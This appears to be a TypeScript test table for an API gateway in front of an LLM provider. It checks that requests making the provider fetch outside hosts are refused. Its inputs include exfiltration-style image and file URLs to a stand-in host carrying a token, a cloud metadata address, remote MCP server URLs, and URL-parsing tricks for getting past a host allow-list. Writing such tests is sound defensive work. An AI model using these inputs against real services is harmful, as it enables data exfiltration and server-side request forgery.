import { ask, good, type Step } from '../steps.ts';
import { asked, denied, PROVIDER, refused, table } from './build.ts';

const chat = (change: Record<string, unknown>): Step => ask({ body: JSON.stringify({ ...good, ...change }) });
const parts = (...content: readonly object[]): Step => chat({ messages: [{ role: 'user', content }] });
const image = (url: string): Step => parts({ type: 'image_url', image_url: { url } });
const fetched = { expect: denied(403, 'ProviderFetchNotAllowed'), record: refused('ProviderFetchNotAllowed') };

/** What the provider would fetch leaves by the provider: refused unless a route admits the host. */
export default table('through an allowed host', { canary: PROVIDER, twin: asked(), expect: denied([400, 403]) }, [
  {
    name: 'image',
    what: 'An image at a host no route admits, with data in its URL.',
    steps: [image('https://exfil.test/?{{token}}')],
    ...fetched,
    slice: true,
  },
  { name: 'image-http', what: 'The same in cleartext.', steps: [image('http://exfil.test/{{token}}.png')], ...fetched },
  { name: 'image-address', what: 'An image at an address.', steps: [image('https://203.0.113.10/{{token}}')] },
  { name: 'image-metadata', what: 'An image at the metadata service of the provider.', steps: [image('http://169.254.169.254/latest/meta-data/')] },
  { name: 'image-userinfo', what: 'An image whose URL has the admitted host as user info.', steps: [image('https://api.openai.com@exfil.test/')] },
  { name: 'image-backslash', what: 'An image whose URL has a backslash before the admitted host.', steps: [image('https://exfil.test\\@api.openai.com/')] },
  { name: 'image-relative', what: 'An image whose URL has no scheme.', steps: [image('//exfil.test/{{token}}')] },
  { name: 'image-space', what: 'An image whose URL has white space before it.', steps: [image(' \thttps://exfil.test/{{token}}')] },
  {
    name: 'image-second',
    what: 'Two images, the first within the message.',
    steps: [parts({ type: 'image_url', image_url: { url: 'data:image/png;base64,AAAA' } }, { type: 'image_url', image_url: { url: 'https://exfil.test/' } })],
  },
  {
    name: 'image-history',
    what: 'An image in an earlier message.',
    steps: [
      chat({
        messages: [
          { role: 'user', content: [{ type: 'image_url', image_url: { url: 'https://exfil.test/' } }] },
          { role: 'assistant', content: 'ok' },
          { role: 'user', content: 'go on' },
        ],
      }),
    ],
  },
  { name: 'image-string', what: 'An image whose URL is not where it is specified.', steps: [parts({ type: 'image_url', image_url: 'https://exfil.test/' })] },
  {
    name: 'image-twice',
    what: 'The URL of an image twice in its object.',
    steps: [
      ask({
        body: JSON.stringify({
          ...good,
          messages: [{ role: 'user', content: [{ type: 'image_url', image_url: { url: 'data:image/png;base64,AA' } }] }],
        }).replace('"url":', '"url":"https://exfil.test/","url":'),
      }),
    ],
  },
  { name: 'file', what: 'A file by its URL.', steps: [parts({ type: 'file', file: { file_url: 'https://exfil.test/{{token}}' } })] },
  { name: 'input-image', what: 'A part of another endpoint.', steps: [parts({ type: 'input_image', image_url: 'https://exfil.test/' })] },
  { name: 'search', what: 'A search of the web by the provider.', steps: [chat({ web_search_options: {} })], ...fetched },
  { name: 'hosted-tool', what: 'A tool the provider runs.', steps: [chat({ tools: [{ type: 'web_search' }] })] },
  {
    name: 'remote-mcp',
    what: 'An MCP server the provider would call.',
    steps: [chat({ tools: [{ type: 'mcp', server_label: 'x', server_url: 'https://exfil.test/mcp' }] })],
  },
  {
    name: 'responses-mcp',
    what: 'The same through the Responses endpoint.',
    steps: [
      ask({
        path: '/v1/responses',
        body: JSON.stringify({ model: 'gpt-4.1-mini', input: 'x', tools: [{ type: 'mcp', server_label: 'x', server_url: 'https://exfil.test/mcp' }] }),
      }),
    ],
    expect: denied(403),
  },
]);
